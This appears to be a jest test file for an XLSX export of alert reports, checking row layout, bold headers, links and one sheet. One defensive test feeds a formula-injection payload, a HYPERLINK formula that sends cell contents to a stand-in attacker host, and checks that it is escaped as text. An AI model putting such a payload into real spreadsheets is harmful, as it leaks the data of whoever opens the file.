/**
 * fflate's browser build is ESM only; under jest (CommonJS) its Node build is taken instead.
 * @jest-environment-options {"customExportConditions": ["node", "require", "default"]}
 */
// The XLSX is read back as what it is, a zip of XML, with fflate: never with SheetJS, whose parser has known CVEs.
import { strFromU8, unzipSync } from 'fflate';
import * as XLSX from 'sheetjs-style';
import { SAMPLE_COLUMNS, sampleReport } from './sample';
import { reportSheet, reportToXls, SHEET_NAME, xlsRows } from './xls';

const xmlText = (text: string) =>
  text
    .replaceAll('&lt;', '<')
    .replaceAll('&gt;', '>')
    .replaceAll('&quot;', '"')
    .replaceAll('&apos;', "'")
    .replaceAll('&amp;', '&');

/** A blob's bytes (jsdom's Blob has no arrayBuffer()). */
const bytesOf = (blob: Blob) =>
  new Promise<Uint8Array>((resolve, reject) => {
    const reader = new FileReader();
    reader.onload = () => resolve(new Uint8Array(reader.result as ArrayBuffer));
    reader.onerror = () => reject(reader.error);
    reader.readAsArrayBuffer(blob);
  });

/** Column letters to an index: A → 0, AA → 26. */
const columnIndex = (letters: string) => [...letters].reduce((n, letter) => n * 26 + letter.charCodeAt(0) - 64, 0) - 1;

/** The rows of a sheet's XML, each cell as text or number at its column, with its style index. */
function sheetRows(xml: string, sharedStrings: string[]) {
  const rows: { index: number; cells: (string | number)[]; styles: number[] }[] = [];
  for (const [, index, body] of xml.matchAll(/<row r="(\d+)"[^>]*>(.*?)<\/row>/gs)) {
    const cells: (string | number)[] = [];
    const styles: number[] = [];
    for (const [, attributes = '', inner = ''] of body?.matchAll(/<c ([^>]*?)(?:\/>|>(.*?)<\/c>)/gs) ?? []) {
      const column = columnIndex(/r="([A-Z]+)\d+"/.exec(attributes)?.[1] ?? 'A');
      const type = /t="(\w+)"/.exec(attributes)?.[1];
      const value = xmlText(/<v>(.*?)<\/v>/s.exec(inner)?.[1] ?? /<t[^>]*>(.*?)<\/t>/s.exec(inner)?.[1] ?? '');
      cells[column] =
        type === 's' ? (sharedStrings[Number(value)] ?? '') : type === 'n' || !type ? Number(value) : value;
      styles[column] = Number(/s="(\d+)"/.exec(attributes)?.[1] ?? 0);
    }
    rows.push({ index: Number(index), cells, styles });
  }
  return rows;
}

/** The written file, its sheet's XML and its rows as a spreadsheet reads them. */
async function readBack(blob: Blob) {
  const files = unzipSync(await bytesOf(blob));
  const shared = files['xl/sharedStrings.xml']
    ? [...strFromU8(files['xl/sharedStrings.xml']).matchAll(/<si>.*?<t[^>]*>(.*?)<\/t>.*?<\/si>/gs)].map(([, t]) =>
        xmlText(t ?? ''),
      )
    : [];
  const sheetXml = strFromU8(files['xl/worksheets/sheet1.xml'] as Uint8Array);
  return { files, sheetXml, written: sheetRows(sheetXml, shared) };
}

describe('reportToXls', () => {
  it('lays the report out as rows: the cover, tiles as label/value, charts as figures, tables with their header', () => {
    const rows = xlsRows(sampleReport(2)).map((row) => row.cells);
    expect(rows).toEqual([
      ['Detail Alert Report'],
      ['Marina Bay Residences'],
      ['16-Nov-26 to 22-Nov-26'],
      [],
      ['Alert Report'],
      ['Total Alerts', 2],
      ['Open Alerts', 1],
      ['Closed Alerts', 1],
      [],
      ['Alerts by Status'],
      ['Open', 1],
      ['Closed', 1],
      [],
      ['Alerts per Day'],
      ['Date', 'Alerts'],
      ['16-Nov-26', 3],
      ['17-Nov-26', 5],
      ['18-Nov-26', 2],
      [],
      ['Alerts were 12% more than last week.'],
      [],
      ['Parking Unauthorized (2)'],
      SAMPLE_COLUMNS.map((column) => column.title),
      [1, '01-11-2026 00:00:00', 'Vehicle SG1000A parked in a resident lot', 'Open', 'View', 'Guard informed'],
      [2, '02-11-2026 01:01:00', 'Vehicle SG1001A parked in a resident lot', 'Closed', 'N/A', '-'],
      [],
      ['No Data Found!'],
      [],
    ]);
  });

  it('makes the title, headings and header rows bold and the image cells links, before writing', () => {
    const rows = xlsRows(sampleReport(2));
    const sheet = reportSheet(XLSX, rows);
    const header = rows.findIndex((row) => row.cells[0] === 'S.No');
    expect(sheet.A1?.s).toEqual({ font: { bold: true } });
    expect(sheet[XLSX.utils.encode_cell({ r: header, c: 5 })]?.s).toEqual({ font: { bold: true } });
    expect(sheet[XLSX.utils.encode_cell({ r: header + 1, c: 0 })]?.s).toBeUndefined();
    expect(sheet[XLSX.utils.encode_cell({ r: header + 1, c: 4 })]).toMatchObject({
      v: 'View',
      f: 'HYPERLINK("https://service.example/alerts/1/details","View")',
    });
  });

  it('writes one sheet "Report" whose rows are the report rows, numbers as numbers and the header bold', async () => {
    const report = sampleReport(300);
    const { files, sheetXml, written } = await readBack(await reportToXls(report));
    expect(strFromU8(files['xl/workbook.xml'] as Uint8Array)).toMatch(new RegExp(`<sheet name="${SHEET_NAME}"`));
    expect(Object.keys(files).filter((name) => /^xl\/worksheets\/sheet\d+\.xml$/.test(name))).toHaveLength(1);
    expect(sheetXml).toContain(
      '<f>HYPERLINK(&quot;https://service.example/alerts/1/details&quot;,&quot;View&quot;)</f>',
    );

    const expected = xlsRows(report);
    const nonEmpty = expected.map((row, index) => ({ ...row, index: index + 1 })).filter((row) => row.cells.length);
    expect(written.map((row) => row.index)).toEqual(nonEmpty.map((row) => row.index));
    expect(written.map((row) => row.cells)).toEqual(nonEmpty.map((row) => row.cells));
    expect(written.find((row) => row.cells[0] === 300)?.cells).toEqual([
      300,
      '20-11-2026 11:59:00',
      'Vehicle SG1299A parked in a resident lot',
      'Closed',
      'N/A',
      '-',
    ]);
    // Header cells carry a style whose font is bold; body cells do not.
    const header = written.find((row) => row.cells[0] === 'S.No');
    const body = written.find((row) => row.cells[0] === 1);
    const styles = strFromU8(files['xl/styles.xml'] as Uint8Array);
    const fonts = [
      ...(/<fonts[^>]*>(.*?)<\/fonts>/s.exec(styles)?.[1] ?? '').matchAll(/<font>(.*?)<\/font>|<font\/>/gs),
    ];
    const xfs = [...(/<cellXfs[^>]*>(.*?)<\/cellXfs>/s.exec(styles)?.[1] ?? '').matchAll(/<xf [^>]*fontId="(\d+)"/g)];
    const isBold = (style: number | undefined) => /<b\/>|<b /.test(fonts[Number(xfs[style ?? 0]?.[1])]?.[0] ?? '');
    expect(header?.styles.every(isBold)).toBe(true);
    expect(body?.styles.some(isBold)).toBe(false);
  });

  it('writes a text from the data that a spreadsheet would run as a formula as text; numbers and its own links stay', async () => {
    const injected = '=HYPERLINK("http://attacker.example/?x="&A2,"Details")';
    const report = sampleReport(3);
    const table = report.sections.find((section) => section.kind === 'table');
    if (table?.kind !== 'table') throw new Error('the sample has a table');
    table.rows[0] = { ...table.rows[0], description: injected, remarks: '@SUM(A1:A9)' };
    report.sections.unshift({ kind: 'tiles', tiles: [{ label: 'Change', value: -5 }] });

    const { sheetXml, written } = await readBack(await reportToXls(report));
    const row = written.find((candidate) => candidate.cells[0] === 1)?.cells;
    expect(row?.[2]).toBe(`'${injected}`);
    expect(row?.[5]).toBe("'@SUM(A1:A9)");
    expect(row?.[4]).toBe('View');
    expect(sheetXml).toContain(
      '<f>HYPERLINK(&quot;https://service.example/alerts/1/details&quot;,&quot;View&quot;)</f>',
    );
    expect(sheetXml).not.toContain('attacker.example/?x=&quot;&amp;A2,&quot;Details&quot;)</f>');
    expect(written.find((candidate) => candidate.cells[0] === 'Change')?.cells).toEqual(['Change', -5]);
  });
});
